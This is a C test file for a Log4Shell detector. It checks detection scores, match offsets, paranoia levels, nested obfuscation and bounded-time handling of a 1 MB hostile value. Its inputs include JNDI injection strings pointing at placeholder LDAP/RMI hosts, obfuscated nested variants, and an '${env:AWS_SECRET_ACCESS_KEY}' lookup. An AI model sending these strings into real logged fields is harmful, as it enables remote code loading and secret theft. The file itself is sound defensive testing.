/* test_jndi.c - the Log4Shell detector: data files, folding, offsets,
 * paranoia and a hostile 1 MB value. */
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "harness.h"
#include "sekisho/detectors.h"

static int run(const char *p, size_t n, target_loc loc, const char *name, int paranoia, det_hit *hit)
{
	det_input in = { sk_slice_make(p, n), 0, sk_slice_make(name, strlen(name)), loc, paranoia };
	in.classes = det_classes(in.value);
	memset(hit, 0, sizeof(*hit));
	int r = jndi_detect(&in, hit);
	if (r && (hit->off > n || hit->len > n - hit->off))
		harness_fail("fragment outside the value", p, n);
	return r;
}

/* Every attack line fires critical in a query argument, a header and a JSON leaf. */
static void tp_line(const harness_line *l, void *ctx)
{
	static const struct { target_loc loc; const char *name; } spots[] = {
		{ LOC_QUERY_ARG, "q" }, { LOC_HEADER, "User-Agent" }, { LOC_JSON, "user.name" },
		{ LOC_COOKIE, "locale" },
	};
	int ok = 1;
	for (size_t s = 0; s < sizeof(spots) / sizeof(spots[0]); s++) {
		det_hit hit;
		if (!run(l->buf, l->len, spots[s].loc, spots[s].name, 1, &hit) || hit.score != DET_SCORE_CRITICAL) {
			ok = 0;
			harness_fail("tp not critical", l->buf, l->len);
			break;
		}
	}
	harness_count(ok);
}

static void tn_line(const harness_line *l, void *ctx)
{
	det_hit hit;
	int ok = !run(l->buf, l->len, LOC_QUERY_ARG, "q", 1, &hit) &&
		 !run(l->buf, l->len, LOC_HEADER, "Referer", 1, &hit);
	if (!ok)
		harness_fail("tn fired", l->buf, l->len);
	harness_count(ok);
}

static void test_fragment(void)
{
	const char v[] = "ua ${jndi:ldap://a/b} x";
	det_hit hit;
	CHECK(run(v, sizeof(v) - 1, LOC_HEADER, "User-Agent", 1, &hit));
	CHECK_INT(hit.off, 3);
	CHECK_INT(hit.len, 18);
	const char w[] = "${${lower:j}ndi:rmi://h/x}";
	CHECK(run(w, sizeof(w) - 1, LOC_HEADER, "X-Api-Version", 1, &hit));
	CHECK_INT(hit.off, 0);
	CHECK_INT(hit.len, sizeof(w) - 1);
}

static void test_paranoia(void)
{
	const char env[] = "${env:AWS_SECRET_ACCESS_KEY}";
	det_hit hit;
	CHECK(!run(env, sizeof(env) - 1, LOC_QUERY_ARG, "q", 1, &hit));
	CHECK(run(env, sizeof(env) - 1, LOC_QUERY_ARG, "q", 2, &hit));
	CHECK_INT(hit.score, DET_SCORE_NOTICE);
	const char low[] = "${lower:abc}";
	CHECK(run(low, sizeof(low) - 1, LOC_QUERY_ARG, "q", 1, &hit));
	CHECK_INT(hit.score, DET_SCORE_WARNING);
	const char sh[] = "${HOME:-/root}";
	CHECK(!run(sh, sizeof(sh) - 1, LOC_QUERY_ARG, "q", 3, &hit));
}

/* Nesting beyond the stack is itself the finding; deep nesting within it
 * still folds. */
static void test_nesting(void)
{
	char buf[4096];
	size_t n = 0;
	for (int i = 0; i < 20; i++) {
		memcpy(buf + n, "${::-", 5);
		n += 5;
	}
	memcpy(buf + n, "j", 1);
	n += 1;
	for (int i = 0; i < 20; i++)
		buf[n++] = '}';
	memcpy(buf + n, "ndi:ldap://x/a}", 15);
	n += 15;
	memmove(buf + 2, buf, n);
	buf[0] = '$';
	buf[1] = '{';
	n += 2;
	det_hit hit;
	CHECK(run(buf, n, LOC_HEADER, "User-Agent", 1, &hit));
	CHECK_INT(hit.score, DET_SCORE_CRITICAL);
	n = 0;
	for (int i = 0; i < 200; i++) {
		memcpy(buf + n, "${", 2);
		n += 2;
	}
	CHECK(run(buf, n, LOC_HEADER, "User-Agent", 1, &hit));
	CHECK_MEM(hit.rule, 12, "jndi.nesting");
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* 1 MB of lookup syntax, quotes, brackets, dashes and '<' in bounded time. */
static double hostile(size_t cap)
{
	static const char *const pieces[] = { "${", "${::-", "}", "'", "\"", "[", "(", "-", "<", ":-",
					      "${lower:", "%7B", "$%7B" };
	size_t n = 0;
	char *buf = malloc(cap);
	CHECK(buf != NULL);
	if (!buf)
		return 0;
	unsigned x = 12345;
	while (n + 16 < cap) {
		x = x * 1103515245u + 12345u;
		const char *p = pieces[(x >> 16) % (sizeof(pieces) / sizeof(pieces[0]))];
		size_t k = strlen(p);
		memcpy(buf + n, p, k);
		n += k;
	}
	det_hit hit;
	double t0 = now();
	for (int p = 1; p <= 3; p++)
		run(buf, n, LOC_HEADER, "User-Agent", p, &hit);
	memset(buf, '{', n);
	for (size_t i = 0; i < n; i += 2)
		buf[i] = '$';
	run(buf, n, LOC_HEADER, "User-Agent", 1, &hit);
	double dt = now() - t0;
	free(buf);
	return dt;
}

/* 1 MB takes about 8 times as long as 128 KB: linear, not quadratic
 * (which would be 64 times); measured as a ratio so a loaded machine or
 * a sanitizer build does not matter. */
static void test_hostile(void)
{
	double small = hostile(1u << 17), big = hostile(1u << 20);
	CHECK(big < 20 * small + 0.05);
}

int main(void)
{
	harness_case = "jndi/tp.txt";
	CHECK(harness_each_line("jndi/tp.txt", tp_line, NULL) >= 40);
	harness_case = "jndi/tn.txt";
	CHECK(harness_each_line("jndi/tn.txt", tn_line, NULL) >= 40);
	RUN(test_fragment);
	RUN(test_paranoia);
	RUN(test_nesting);
	RUN(test_hostile);
	return harness_done("jndi");
}
